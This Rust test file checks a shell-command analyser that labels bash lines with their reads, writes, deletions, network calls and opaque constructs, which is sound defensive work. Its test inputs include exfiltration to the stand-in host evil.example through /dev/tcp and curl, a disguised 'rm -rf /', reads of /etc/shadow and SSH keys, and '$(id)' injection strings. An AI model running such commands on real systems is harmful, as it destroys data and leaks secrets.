//! Command lines → what analysis says of them, in one line each.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use crate::syntax::Dialect;

use super::test_world::TestWorld;
use super::{Catalog, CommandLine, Effect, EffectKind, Facts, Invocation, Program, Target, analyse, catalog};

fn shell(text: &str) -> Facts {
    let line = CommandLine::Shell {
        text: text.as_bytes().to_vec(),
        dialect: Dialect::Bash,
        options: Vec::new(),
        arguments: Vec::new(),
    };
    analyse(&line, &TestWorld::default(), &Catalog::built_in())
}

/// `KIND[-recursive] [TARGET] [UNDO]` as catalog files write it, each once and sorted.
fn effects(facts: &Facts) -> BTreeSet<String> {
    facts.invocations.iter().flat_map(noted).map(shown).collect()
}

/// The effects of an invocation; what happens elsewhere is written for that place, without its twin.
fn noted(invocation: &Invocation) -> Vec<&Effect> {
    if !matches!(invocation.program, Program::Elsewhere(_)) {
        return invocation.effects.iter().collect();
    }
    let mut effects = invocation.effects.iter();
    let mut noted = Vec::new();
    while let Some(effect) = effects.next() {
        noted.push(effect);
        if !matches!(effect.target, Target::Host { .. }) {
            effects.next();
        }
    }
    noted
}

fn shown(effect: &Effect) -> String {
    let Effect { kind, target, undo, .. } = effect;
    let mut shown = kind.name().to_owned();
    if let Target::Path { recursive: true, .. } | Target::Glob { recursive: true, .. } = target {
        shown.push_str("-recursive");
    }
    let _ = match target {
        Target::Nothing => Ok(()),
        Target::Path { path, .. } => write!(shown, " {}", short(&path.display().to_string())),
        Target::Glob { pattern, .. } => write!(shown, " {}", short(&String::from_utf8_lossy(pattern))),
        Target::Host { name, port } => {
            let port = port.map(|port| format!(":{port}")).unwrap_or_default();
            write!(shown, " host:{}{port}", name.as_deref().unwrap_or("unknown"))
        }
        Target::Name(name) => write!(shown, " {name}"),
        Target::Unknown => write!(shown, " unknown"),
    };
    if *undo != kind.usual_undo() && *kind != EffectKind::Environment {
        let _ = write!(shown, " {}", undo.name());
    }
    shown
}

/// Paths as short as they can be, whatever way they are written in an example.
fn short(path: &str) -> String {
    let below = |directory: &str, path: &str| {
        path.strip_prefix(directory)
            .filter(|rest| rest.is_empty() || rest.starts_with('/'))
            .map(str::to_owned)
    };
    match (below("/home/user/work", path), below("/home/user", path)) {
        (Some(rest), _) => format!(".{rest}"),
        (None, Some(rest)) => format!("~{rest}"),
        (None, None) => path.to_owned(),
    }
}

/// An example's effect in the words of [`shown`]: the usual undo class goes without saying.
fn written(effect: &str) -> String {
    let (kind, rest) = effect.split_once(' ').unwrap_or((effect, ""));
    let usual =
        EffectKind::from_name(kind.trim_end_matches("-recursive")).map(|kind| kind.usual_undo().name());
    let rest = match rest.rsplit_once(' ') {
        Some((target, undo)) if Some(undo) == usual => target,
        None if Some(rest) == usual => "",
        _ => rest,
    };
    format!("{kind} {}", short(rest)).trim_end().to_owned()
}

#[test]
fn every_catalog_example_holds() {
    let directory = concat!(env!("CARGO_MANIFEST_DIR"), "/policies/catalog");
    let mut checked = 0;
    let mut wrong = Vec::new();
    for file in std::fs::read_dir(directory).unwrap().map(|file| file.unwrap().path()) {
        let text = std::fs::read_to_string(&file).unwrap();
        for example in catalog::examples(&text, &file.display().to_string()).unwrap() {
            checked += 1;
            let facts = shell(&example.command);
            let opaque = facts.opacities().next();
            let found = effects(&facts);
            let expected = example.effects.iter().map(|effect| written(effect)).collect();
            let complete = !example.opaque || !example.effects.is_empty();
            if opaque.is_some() != example.opaque || complete && found != expected {
                let name = file.file_name().unwrap().display();
                wrong.push(format!(
                    "{name}: {}\n  expected {expected:?} opaque={}\n  found    {found:?} {opaque:?}",
                    example.command, example.opaque
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{} of {checked} examples:\n{}", wrong.len(), wrong.join("\n"));
    assert!(checked > 50, "{checked} examples");
}

/// One line for each invocation: `via > words [effects] !opaque`.
fn lines(facts: &Facts) -> Vec<String> {
    let line = |invocation: &super::Invocation| {
        let mut line: String = invocation.via.iter().map(|via| format!("{via} > ")).collect();
        let words = invocation.words.iter().map(|word| match &word.value {
            Some(value) => String::from_utf8_lossy(value).into_owned(),
            None => "…".to_owned(),
        });
        line.push_str(&words.collect::<Vec<_>>().join(" "));
        if !invocation.effects.is_empty() {
            let effects: Vec<String> = invocation.effects.iter().map(shown).collect();
            let _ = write!(line, " [{}]", effects.join(", "));
        }
        if let Some(opacity) = &invocation.opaque {
            let _ = write!(line, " !{}", opacity.why);
        }
        line.trim_start().to_owned()
    };
    facts
        .opaque
        .iter()
        .map(|opacity| format!("!!{}", opacity.why))
        .chain(facts.invocations.iter().map(line))
        .collect()
}

#[track_caller]
fn check(cases: &[(&str, &[&str])]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(text, expected)| {
            let found = lines(&shell(text));
            (found != *expected).then(|| format!("{text}\n  expected {expected:#?}\n  found {found:#?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn parts_are_listed_in_order_and_wrappers_before_what_they_start() {
    check(&[
        (
            "cat a; cat b | sort && cat c",
            &["cat a [read ./a]", "cat b [read ./b]", "sort", "cat c [read ./c]"],
        ),
        (
            "timeout 5 nice cat a",
            &["timeout 5 nice cat a", "timeout > nice cat a", "timeout > nice > cat a [read ./a]"],
        ),
        ("echo \"$(cat a)\"", &["echo …", "cat a [read ./a]"]),
        (
            "if cat a; then cat b; else cat c; fi",
            &["cat a [read ./a]", "cat b [read ./b]", "cat c [read ./c]"],
        ),
        (
            "bash -c 'cat a; cat b'",
            &["bash -c cat a; cat b", "bash > cat a [read ./a]", "bash > cat b [read ./b]"],
        ),
    ]);
}

#[test]
fn words_are_resolved_where_the_text_alone_tells() {
    check(&[
        (
            "cat ~/x $HOME/y \"$HOME/z\"",
            &["cat /home/user/x /home/user/y /home/user/z [read ~/x, read ~/y, read ~/z]"],
        ),
        ("cat $PWD/x", &["cat /home/user/work/x [read ./x]"]),
        ("P=~/.ssh; cat $P/id", &["[environment P]", "cat /home/user/.ssh/id [read ~/.ssh/id]"]),
        ("P=a; P=b; cat $P", &["[environment P]", "[environment P]", "cat … [read unknown]"]),
        ("true && P=a; cat \"$P\"", &["true", "[environment P]", "cat … [read unknown]"]),
        ("P='a b'; cat \"$P\"", &["[environment P]", "cat a b [read ./a b]"]),
        (
            "for f in a b*; do cat \"$f\"; done; cat \"$f\"",
            &["[environment f]", "cat … [read ./a, read ./b*]", "cat … [read unknown]"],
        ),
        (
            "bash -c 'cat ~/x'; env -i bash -c 'cat ~/x'",
            &[
                "bash -c cat ~/x",
                "bash > cat /home/user/x [read ~/x]",
                "env -i bash -c cat ~/x",
                "env > bash -c cat ~/x",
                "env > bash > cat … [read unknown]",
            ],
        ),
        ("cat \"${X:-y}\"", &["cat … [read unknown]"]),
        ("P=a; : \"${P:-b}\"; cat \"$P\"", &["[environment P]", ": …", "cat a [read ./a]"]),
        (
            "P=a; ((P=7)); cat \"$P\"",
            &["[environment P]", "!arithmetic evaluates the value of `P`", "cat … [read unknown]"],
        ),
        (
            "cat *.rs src/{a,b}.rs",
            &["cat … src/a.rs src/b.rs [read ./*.rs, read ./src/a.rs, read ./src/b.rs]"],
        ),
        (
            "X=rm bash -c '\"$X\" -rf /'",
            &[
                "bash -c \"$X\" -rf / [environment X]",
                "bash > … -rf / !the command's name is not known before the shell runs",
            ],
        ),
    ]);
}

#[test]
fn names_lead_to_programs_functions_and_built_ins() {
    check(&[
        ("/usr/bin/cat a", &["/usr/bin/cat a [read ./a]"]),
        ("./cat a", &["./cat a [execute ./cat]"]),
        ("/tmp/x/cat a", &["/tmp/x/cat a [execute /tmp/x/cat]"]),
        ("../../../usr/bin/cat a", &["../../../usr/bin/cat a [read ./a]"]),
        ("link/cat a", &["link/cat a [execute ./link/cat]"]),
        ("evil-ls a", &["evil-ls a [execute /tmp/bin/evil-ls]"]),
        ("black x", &["black x [execute ~/.local/bin/black]"]),
        ("no-such-program x", &["no-such-program x [execute no-such-program]"]),
        ("f() { cat a; }; f x", &["cat a [read ./a]", "f x"]),
        (
            "true && f() { cat a; }; f",
            &["true", "cat a [read ./a]", "f !a function may or may not be defined by this name"],
        ),
        (
            "rm() { :; }; unset -f rm; rm a",
            &[":", "unset -f rm [environment rm]", "rm a !a function may or may not be defined by this name"],
        ),
        ("rm() { :; }; command rm a", &[":", "command rm a", "command > rm a [delete ./a]"]),
        ("rm() { :; }; env rm a", &[":", "env rm a", "env > rm a [delete ./a]"]),
        ("$x a", &["… a !the command's name is not known before the shell runs"]),
        ("docker-x a", &["docker-x a [execute /usr/bin/docker-x]"]),
        (
            "env cd /; env ./cat a",
            &["env cd /", "env > cd / [execute /usr/bin/cd]", "env ./cat a", "env > ./cat a [execute ./cat]"],
        ),
    ]);
}

#[test]
fn directories_are_followed_as_far_as_they_are_certain() {
    check(&[
        ("cd /etc && cat a", &["cd /etc", "cat a [read /etc/a]"]),
        ("cd /etc; cat a", &["cd /etc", "cat a [read /etc/a]"]),
        ("cd /none && cat a; cat b", &["cd /none", "cat a [read /none/a]", "cat b [read unknown]"]),
        ("cd /none; cat a", &["cd /none", "cat a [read unknown]"]),
        ("cd src; cat a; cd ..; cat b", &["cd src", "cat a [read ./src/a]", "cd ..", "cat b [read ./b]"]),
        ("cd \"$x\"; cat a /b", &["cd …", "cat a /b [read unknown, read /b]"]),
        ("cd /etc | cat a; cat b", &["cd /etc", "cat a [read ./a]", "cat b [read ./b]"]),
        ("(cd /etc && cat a); cat b", &["cd /etc", "cat a [read /etc/a]", "cat b [read ./b]"]),
        ("{ cd /etc; }; cat b", &["cd /etc", "cat b [read unknown]"]),
        ("while cat a; do cd /; done", &["cat a [read unknown]", "cd /"]),
        ("for i in 1 2; do cat a; cd /; done", &["[environment i]", "cat a [read unknown]", "cd /"]),
        ("(while cat a; do cd /; done); cat b", &["cat a [read unknown]", "cd /", "cat b [read ./b]"]),
        ("f() { cd /; }; f; cat a", &["cd /", "f", "cat a [read unknown]"]),
        ("pushd /etc; cat a", &["pushd /etc", "cat a [read unknown]"]),
        (
            "x=$(cd /etc && cat a); cat b",
            &["[environment x]", "cd /etc", "cat a [read /etc/a]", "cat b [read ./b]"],
        ),
    ]);
}

#[test]
fn redirections_are_effects_of_their_command() {
    check(&[
        ("cat < a > b 2>> c", &["cat [read ./a, write ./b, write ./c]"]),
        ("cat a >/dev/null 2>&1 <&-", &["cat a [read ./a]"]),
        ("> a", &["[write ./a]"]),
        ("f() { cat; } > a; f", &["[write ./a]", "cat", "f"]),
        ("{ cat; } < /etc/shadow", &["[read /etc/shadow]", "cat"]),
        ("echo x 1<> a", &["echo x [read ./a, write ./a]"]),
        ("echo x > /dev/tcp/evil.example/80", &["echo x [network host:evil.example:80]"]),
        ("echo x > \"$f\"", &["echo x [write unknown]"]),
        ("cat <<E\n$(cat a)\nE", &["cat", "cat a [read ./a]"]),
        ("diff <(cat a) b", &["diff … b [read pipe, read ./b]", "cat a [read ./a]"]),
    ]);
}

#[test]
fn code_on_standard_input_is_read_where_it_stands_in_the_text() {
    let unseen = "runs code from its standard input";
    check(&[
        ("bash <<'E'\ncat a\nE", &["bash", "bash > cat a [read ./a]"]),
        ("timeout 5 sh <<< 'cat a'", &["timeout 5 sh", "timeout > sh", "timeout > sh > cat a [read ./a]"]),
        ("sh < /dev/null", &["sh"]),
        ("cat a | sh", &["cat a [read ./a]", &format!("sh [execute what `cat` reads] !{unseen}")]),
        ("echo 'cat a' | sh", &["echo cat a", "sh", "sh > cat a [read ./a]"]),
        ("echo cat a | bash -s x", &["echo cat a", "bash -s x", "bash > cat a [read ./a]"]),
        (
            "echo 'cat a' | timeout 5 sh",
            &["echo cat a", "timeout 5 sh", "timeout > sh", "timeout > sh > cat a [read ./a]"],
        ),
        ("echo 'cat\\x20a' | sh", &["echo cat\\x20a", &format!("sh [execute what `echo` prints] !{unseen}")]),
        ("echo -e 'cat a' | sh", &["echo -e cat a", &format!("sh [execute what `echo` prints] !{unseen}")]),
        ("echo \"$x\" | sh", &["echo …", &format!("sh [execute what `echo` prints] !{unseen}")]),
        ("echo cat a >&2 | sh", &["echo cat a", &format!("sh [execute what `echo` prints] !{unseen}")]),
        (
            "echo() { cat a; }; echo x | sh",
            &["cat a [read ./a]", "echo x", &format!("sh [execute what `cat` reads] !{unseen}")],
        ),
        (
            "date | echo cat a | sh",
            &["date", "echo cat a", &format!("sh [execute what `date` prints] !{unseen}")],
        ),
        ("sh < a", &[&format!("sh [execute standard input, read ./a] !{unseen}")]),
        (
            "{ read x; sh; } <<'E'\ncat <<X\ncat a\nX\nE",
            &["read x [environment x]", &format!("sh [execute standard input] !{unseen}")],
        ),
        ("sh <<E\n$x\nE", &[&format!("sh [execute standard input] !{unseen}")]),
        ("bash -s x <<'E'\ncat a\nE", &["bash -s x", "bash > cat a [read ./a]"]),
        (
            "xargs sh <<'E'\ncat a\nE",
            &[
                "xargs sh",
                "xargs > sh … [execute unknown] !a word that only the shell knows could be an option",
            ],
        ),
    ]);
}

#[test]
fn a_variable_holds_until_something_unseen_could_change_it() {
    check(&[
        (
            "x=a; $y b; cat $x",
            &[
                "[environment x]",
                "… b !the command's name is not known before the shell runs",
                "cat … [read unknown]",
            ],
        ),
        (
            "x=a; cat $x; eval \"$y\"",
            &[
                "[environment x]",
                "cat a [read ./a]",
                "eval … !shell text that is not known before the shell runs",
            ],
        ),
        ("x=cat; $x a", &["[environment x]", "cat a [read ./a] !the command's name stands in a variable"]),
    ]);
}

#[test]
fn substitutions_that_print_one_word_are_one_word() {
    check(&[
        ("cat $(pwd)/a", &["cat /home/user/work/a [read ./a]", "pwd"]),
        ("cd /tmp && cat \"$(pwd)/a\"", &["cd /tmp", "cat /tmp/a [read /tmp/a]", "pwd"]),
        ("make -j$(nproc)", &["make … [project-code build, write-recursive . reversible]", "nproc"]),
        ("pwd() { cat; }; cat $(pwd)", &["cat", "cat … [read unknown]", "pwd"]),
    ]);
    for line in ["make $(cat x)", "make -j$(nproc; cat x)", "IFS=1; make -j$(nproc)", "make -d$(date)"] {
        let shown = lines(&shell(line)).join("\n");
        assert!(shown.contains('!') || shown.contains("outward"), "{line}: {shown}");
    }
}

#[test]
fn a_name_that_find_looks_for_bounds_what_it_deletes() {
    check(&[(
        "find . -name '*.pyc' -delete",
        &["find . -name *.pyc -delete [list-recursive ., delete ./**/*.pyc]"],
    )]);
    for line in [
        "find . -delete -name '*.pyc'",
        "find . -name a -o -name b -delete",
        "find . ! -name a -delete",
        "find . -not -name a -delete",
        "find . '(' -name a -o -name b ')' -delete",
        "find . -name '*' -delete",
        "find . -name '[a-z]*' -delete",
        "find . -iname a -delete",
        "find . -name a -name b -delete",
    ] {
        let shown = lines(&shell(line)).join("\n");
        assert!(shown.contains("delete-recursive .]"), "{line}: {shown}");
    }
}

#[test]
fn what_only_describes_itself_does_nothing() {
    check(&[
        ("split --help", &["split --help"]),
        ("sudo --version", &["sudo --version"]),
        ("split --help x", &["split --help x [read ./x, write .]"]),
        ("pytest --help", &["pytest --help [project-code conftest, project-code tests]"]),
    ]);
}

#[test]
fn what_is_sent_to_this_machine_alone_can_be_sent_again() {
    check(&[
        (
            "curl -d x localhost:1",
            &["curl -d x localhost:1 [network host:localhost:1, remote sent-data reversible]"],
        ),
        (
            "curl -d x 127.0.0.1 evil.example",
            &[
                "curl -d x 127.0.0.1 evil.example [network host:127.0.0.1, network host:evil.example, remote sent-data]",
            ],
        ),
        (
            "curl -d x 127.evil.example",
            &["curl -d x 127.evil.example [network host:127.evil.example, remote sent-data]"],
        ),
    ]);
}

#[test]
fn an_empty_command_empties_the_file_that_is_there() {
    check(&[
        ("> src", &["[write ./src, delete ./src]"]),
        (">> src", &["[write ./src]"]),
        ("> new", &["[write ./new]"]),
        ("echo > src", &["echo [write ./src]"]),
        ("{ ls; } > src", &["[write ./src]", "ls [list .]"]),
        ("> /dev/null", &[""]),
    ]);
}

#[test]
fn code_from_where_anybody_writes_is_told_by_its_directory() {
    check(&[
        (
            "make -C /tmp/x",
            &["make -C /tmp/x [project-code /tmp/x, project-code build, write-recursive /tmp/x reversible]"],
        ),
        ("make -C src", &["make -C src [project-code build, write-recursive ./src reversible]"]),
        ("RAILS_ENV=production ls", &["ls [list ., environment RAILS_ENV, environment production]"]),
    ]);
}

const CHANGED: &str = "words that are names of files, which the line may change";

#[test]
fn words_that_only_the_shell_knows_could_be_options() {
    let option = "a word that only the shell knows could be an option";
    check(&[
        ("cat \"$x\"", &["cat … [read unknown]"]),
        ("rm \"$x\"", &[&format!("rm … [delete unknown] !{option}")]),
        ("rm -- \"$x\"", &["rm -- … [delete unknown]"]),
        ("rm \"./$x\"", &["rm … [delete unknown]"]),
        ("sort *", &["sort … [read ./*]"]),
        ("cd /tmp; sort *", &["cd /tmp", &format!("sort … [read /tmp/*] !{CHANGED}")]),
        ("sort ./*", &["sort … [read ./*]"]),
        (
            "sort -$x a",
            &["sort … a [read unknown, read ./a] !a word that only the shell knows could be an option"],
        ),
        ("wc $x", &["wc … [read unknown, read unknown]"]),
        (
            "timeout $x cat a",
            &["timeout … cat a !where the command to be run begins is not known before the shell runs"],
        ),
    ]);
}

#[test]
fn data_that_the_shell_reads_as_code_is_opaque() {
    for text in [
        "x='a[$(id)]'; ((x))",
        "echo $((x + 1))",
        "let x=1",
        "declare -n T=X",
        "declare -i n='a[$(id)]'",
        "test -v 'a[$(id)]'",
        "[ -v \"$x\" ]",
        "printf -v \"$x\" y",
        "read \"$x\"",
        "unset 'a[$(id)]'",
        "eval \"$x\"",
        "trap \"$x\" EXIT",
        "source x",
        ". ./x",
        "alias a=b",
        "shopt -s extglob",
        "enable -f x y",
        "hash -p x y",
        "complete -C 'rm x' y",
        "compgen -W '$(id)'",
        "RANDOM='a[$(id)]'",
        "PS4='$(id)'; set -x",
        "PATH=/tmp:$PATH",
        "IFS=x",
        "for PATH in a; do ls; done",
        "read PATH",
        "mapfile -C \"$x\" a",
        "fc -s",
        "set -o posix",
        "exec \"$x\"",
        "command \"$x\"",
        "builtin eval \"$x\"",
        "bind x",
        "export -f f",
        "local -n a=b",
        "getopts a 'x[$(id)]'",
        "wait -p 'a[$(id)]'",
    ] {
        assert!(shell(text).opacities().next().is_some(), "{text}: {:?}", lines(&shell(text)));
    }
}

#[test]
fn arithmetic_over_certain_integers_is_transparent() {
    for text in [
        "n=$((1 + 2)); echo \"$n\"",
        "i=0; while ((i < 5)); do i=$((i + 1)); done",
        "for i in 1 2 3; do echo $((i * 2)); done",
        "while IFS= read -r line; do echo \"$line\"; done",
        "[ -f \"$x\" ] && [ -z \"$y\" -o -d z ]",
        "[[ $x == a* && -f b ]]",
    ] {
        assert_eq!(shell(text).opacities().next(), None, "{text}");
    }
}

#[test]
fn only_one_plain_command_may_be_executed_directly() {
    for (text, simple) in [
        ("git status --short", true),
        ("  cat 'a b' ", true),
        ("/usr/bin/cat a", true),
        ("sudo cat a", true),
        ("cat a; ", false),
        ("! cat a", false),
        ("time cat a", false),
        ("cat a &", false),
        ("cat a > b", false),
        ("A=b cat a", false),
        ("cat *", false),
        ("cat ~/a", false),
        ("cat \"$x\"", false),
        ("cd /", false),
        ("echo a", false),
        ("cat a | cat", false),
        ("(cat a)", false),
        ("cat a\ncat b", false),
        ("cat a # b", false),
        ("f() { :; }", false),
        ("", false),
    ] {
        assert_eq!(shell(text).simple.is_some(), simple, "{text}");
    }
    let with_options = CommandLine::Shell {
        text: b"cat a".to_vec(),
        dialect: Dialect::Bash,
        options: vec![b"-x".to_vec()],
        arguments: Vec::new(),
    };
    assert_eq!(analyse(&with_options, &TestWorld::default(), &Catalog::built_in()).simple, None);
}

fn argv(words: &[&str]) -> Facts {
    let line = CommandLine::Argv(words.iter().map(|word| word.as_bytes().to_vec()).collect());
    analyse(&line, &TestWorld::default(), &Catalog::built_in())
}

#[test]
fn argument_vectors_are_taken_as_they_are() {
    assert_eq!(lines(&argv(&["cat", "$x", "*"])), ["cat $x * [read ./$x, read ./*]"]);
    assert_eq!(lines(&argv(&["cd", "/"])), ["cd / [execute /usr/bin/cd]"]);
    assert_eq!(argv(&["cat", "a b"]).simple, Some(0));
    let facts = argv(&["cat", "a b"]);
    assert_eq!(facts.invocations[0].words[1].span, crate::syntax::Span { start: 4, end: 9 });
    assert!(argv(&[]).invocations.is_empty());
}

#[test]
fn nesting_has_an_end() {
    let deep = ["env"; 4000].join(" ");
    assert!(shell(&deep).opacities().next().is_some());
    let texts = (0..6).fold("cat a".to_owned(), |text, _| format!("sh -c '{}'", text.replace('\'', "'\\''")));
    assert!(shell(&texts).opacities().next().is_some());
    let many = "eval 'true; true; true; true; true; true; true; true; true; true'; ".repeat(1000);
    let facts = shell(&many);
    assert!(facts.opaque.is_some() && facts.invocations.is_empty());
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    /// Commands that run anywhere in a line.
    fn part() -> impl Strategy<Value = String> {
        let parts = [
            "cat a",
            "rm -rf b",
            "git status",
            "sudo cat /etc/shadow",
            "echo $x",
            "sh -c 'cat a'",
            "$x",
            "eval \"$y\"",
            "cat < c > d",
            "find . -delete",
            "A=b sort c",
            "xargs rm",
            "no-such-program",
            "ssh h ls",
            "sed -i s/a/b/ c",
            "read v",
            "PATH=x",
            "(cat e)",
            "for i in 1 2; do cat \"$i\"; done",
            "if true; then cat f; fi",
            "echo \"$(cat g)\"",
        ];
        prop::sample::select(parts.to_vec()).prop_map(str::to_owned)
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn any_argument_vector_has_facts(words in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..12), 0..8)) {
            let _ = analyse(&CommandLine::Argv(words), &TestWorld::default(), &Catalog::built_in());
        }

        #[test]
        fn any_words_behind_a_known_program_have_facts(
            program in prop::sample::select(Catalog::built_in().program_names()),
            words in prop::collection::vec("-{0,2}[a-zA-Z0-9=./*{};+]{0,8}", 0..6),
        ) {
            let argv: Vec<Vec<u8>> = std::iter::once(program.to_owned()).chain(words).map(String::into_bytes).collect();
            let facts = analyse(&CommandLine::Argv(argv), &TestWorld::default(), &Catalog::built_in());
            prop_assert!(!facts.invocations.is_empty() || facts.opaque.is_some());
        }

        #[test]
        fn any_text_has_facts(text in "[ -~\\n]{0,60}") {
            let _ = shell(&text);
        }

        #[test]
        fn a_part_more_hides_nothing(parts in prop::collection::vec(part(), 1..4), more in part()) {
            let fewer = shell(&parts.join("; "));
            let all = shell(&parts.iter().cloned().chain([more]).collect::<Vec<_>>().join("; "));
            prop_assert!(fewer.opacities().count() <= all.opacities().count());
            for effect in fewer.invocations.iter().flat_map(|invocation| &invocation.effects) {
                let kept = |other: &&Effect| {
                    other.kind == effect.kind
                        && other.span == effect.span
                        && (other.target == effect.target || other.target == Target::Unknown)
                };
                let effects = || all.invocations.iter().flat_map(|invocation| &invocation.effects);
                prop_assert!(effects().any(|other| kept(&other)), "{effect:?} is gone");
            }
        }

        #[test]
        fn a_command_is_the_same_as_words_and_as_text(words in prop::collection::vec("[a-z./-]{1,6}", 0..5)) {
            let text = format!("cat {}", words.join(" "));
            let words: Vec<&str> = text.split_whitespace().collect();
            prop_assert_eq!(effects(&shell(&text)), effects(&argv(&words)));
        }
    }
}

#[test]
fn the_subcommands_that_words_lead_to_are_named() {
    for (text, expected) in [
        ("git -C push status", "status"),
        ("git stash pop", "stash pop"),
        ("git frobnicate status", ""),
        ("ls status", ""),
        ("kubectl --context prod rollout status x", "rollout status"),
    ] {
        let facts = shell(text);
        assert_eq!(facts.invocations[0].subs.join(" "), expected, "{text}");
    }
}
